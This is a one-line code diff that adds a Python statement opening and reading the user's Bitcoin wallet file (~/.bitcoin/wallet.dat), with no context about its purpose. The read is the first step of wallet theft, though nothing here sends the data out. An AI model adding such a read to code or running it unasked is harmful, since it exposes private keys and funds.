@@ -1,0 +1,1 @@
+import os; open(os.path.expanduser("~/.bitcoin/wallet.dat"), "rb").read()
